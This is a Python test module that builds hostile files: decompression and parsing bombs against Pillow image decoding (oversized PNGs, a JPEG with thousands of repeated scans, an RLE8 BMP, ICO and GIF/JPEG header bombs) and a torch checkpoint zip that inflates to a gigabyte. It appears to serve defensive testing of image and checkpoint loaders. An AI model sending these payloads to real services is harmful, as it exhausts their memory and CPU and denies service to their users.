"""Hostile files, generated here so no binary blob lives in git. Each returns the bytes of one attack."""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path

from PIL import Image


def progressive_jpeg_many_scans(side: int = 6320, scans: int = 3000) -> bytes:
    """A grey progressive JPEG whose last AC scan is repeated ``scans`` times: each repeat makes the decoder
    walk every block again, so the cost grows with side^2 x scans while each scan costs a few bytes."""
    buf = io.BytesIO()
    Image.new("L", (side, side), 0).save(buf, format="JPEG", progressive=True, quality=10)
    data = buf.getvalue()
    last_sos = data.rindex(b"\xff\xda")
    body, eoi = data[last_sos:-2], data[-2:]
    return data[:-2] + body * scans + eoi


def rle8_bmp(side: int = 6000) -> bytes:
    """An 8-bit BMP in RLE8 that ends every one of ``side`` rows with an escape: Pillow decodes RLE in Python."""
    rows = b"".join(b"\x01\x00" + b"\x00\x00" for _ in range(side)) + b"\x00\x01"  # one pixel, end of line; end
    palette = b"".join(bytes((i, i, i, 0)) for i in range(256))
    offset = 14 + 40 + len(palette)
    header = b"BM" + struct.pack("<IHHI", offset + len(rows), 0, 0, offset)
    info = struct.pack("<IiiHHIIiiII", 40, side, side, 1, 8, 1, len(rows), 2835, 2835, 256, 0)
    return header + info + palette + rows


def huge_png(side: int = 6320, mode: str = "RGBA") -> bytes:
    """A PNG that declares side x side pixels of one colour: a few hundred KB that decode to side^2 x 4 bytes."""
    buf = io.BytesIO()
    Image.new(mode, (side, side)).save(buf, format="PNG", optimize=True)
    return buf.getvalue()


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png_declaring(width: int, height: int) -> bytes:
    """A tiny grey PNG whose header declares ``width`` x ``height`` (the pixel data is one compressed row)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * (width + 1), 9)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def ico_with_big_png(side: int = 13300) -> bytes:
    """An ICO container whose one entry is a PNG of side x side pixels: Pillow decodes it inside Image.open."""
    png = huge_png(side, "L")
    entry = struct.pack("<BBBBHHII", 0, 0, 0, 0, 1, 32, len(png), 6 + 16)
    return struct.pack("<HHH", 0, 1, 1) + entry + png


def inflating_checkpoint(source: Path, target: Path, inflated_bytes: int = 1_000_000_000) -> None:
    """``source`` (a real torch checkpoint) with its largest weight record replaced by ``inflated_bytes`` of
    zeros stored deflated: about 1 MB on disk per GB in memory."""
    import zipfile

    with zipfile.ZipFile(source) as zin:
        records = zin.infolist()
        biggest = max(records, key=lambda r: r.file_size).filename
        with zipfile.ZipFile(target, "w") as zout:
            for record in records:
                if record.filename != biggest:
                    zout.writestr(record, zin.read(record.filename))
                    continue
                info = zipfile.ZipInfo(biggest)
                info.compress_type = zipfile.ZIP_DEFLATED
                with zout.open(info, "w", force_zip64=True) as fh:
                    chunk = b"\0" * (1 << 24)
                    for _ in range(inflated_bytes // len(chunk)):
                        fh.write(chunk)


# Header bombs (issue 23): files whose structure Pillow reads a chunk, marker or sub-block at a time in
# Python, so that a few MB cost seconds of CPU while the file is only being opened.


def _small_png_parts() -> tuple[bytes, bytes]:
    """(signature + IHDR, IDAT + IEND) of a real 28x28 grey PNG."""
    buf = io.BytesIO()
    Image.new("L", (28, 28), 255).save(buf, format="PNG")
    data = buf.getvalue()
    idat = data.index(b"IDAT") - 4
    return data[:idat], data[idat:]


def png_iccp_chunks(count: int = 4648) -> bytes:
    """A 28x28 PNG with ``count`` iCCP chunks, each deflating to 1 MiB (4.9 MB for the default count)."""
    head, tail = _small_png_parts()
    chunk = _png_chunk(b"iCCP", b"p\x00\x00" + zlib.compress(b"\x00" * (1 << 20), 9))
    return head + chunk * count + tail


def png_empty_chunks(count: int = 400_000) -> bytes:
    """A 28x28 PNG with ``count`` empty private ancillary chunks before its image data."""
    head, tail = _small_png_parts()
    return head + _png_chunk(b"prVt", b"") * count + tail


def _small_jpeg() -> bytes:
    buf = io.BytesIO()
    Image.new("L", (28, 28), 255).save(buf, format="JPEG")
    return buf.getvalue()


def jpeg_fill_bytes(count: int = 4_000_000) -> bytes:
    """A 28x28 JPEG with ``count`` 0xFF fill bytes before its first segment after SOI."""
    data = _small_jpeg()
    return data[:2] + b"\xff" * count + data[2:]


def jpeg_comments(count: int = 1_200_000) -> bytes:
    """A 28x28 JPEG with ``count`` empty comment (COM) segments before its frame."""
    data = _small_jpeg()
    return data[:2] + b"\xff\xfe\x00\x02" * count + data[2:]


def _small_gif() -> tuple[bytes, bytes]:
    """(header + screen + colour table, the rest) of a real 28x28 GIF."""
    buf = io.BytesIO()
    Image.new("L", (28, 28), 255).save(buf, format="GIF")
    data = buf.getvalue()
    table = 3 << ((data[10] & 7) + 1) if data[10] & 0x80 else 0
    return data[:13 + table], data[13 + table:]


def gif_sub_blocks(count: int = 2_400_000) -> bytes:
    """A 28x28 GIF whose comment extension holds ``count`` one-byte sub-blocks."""
    head, rest = _small_gif()
    return head + b"\x21\xfe" + b"\x01x" * count + b"\x00" + rest


def gif_control_extensions(count: int = 600_000) -> bytes:
    """A 28x28 GIF with ``count`` graphic-control extensions before its image."""
    head, rest = _small_gif()
    return head + b"\x21\xf9\x04\x00\x00\x00\x00\x00" * count + rest


HEADER_BOMBS = {"png_iccp_chunks": png_iccp_chunks, "png_empty_chunks": png_empty_chunks,
                "jpeg_fill_bytes": jpeg_fill_bytes, "jpeg_comments": jpeg_comments,
                "gif_sub_blocks": gif_sub_blocks, "gif_control_extensions": gif_control_extensions}
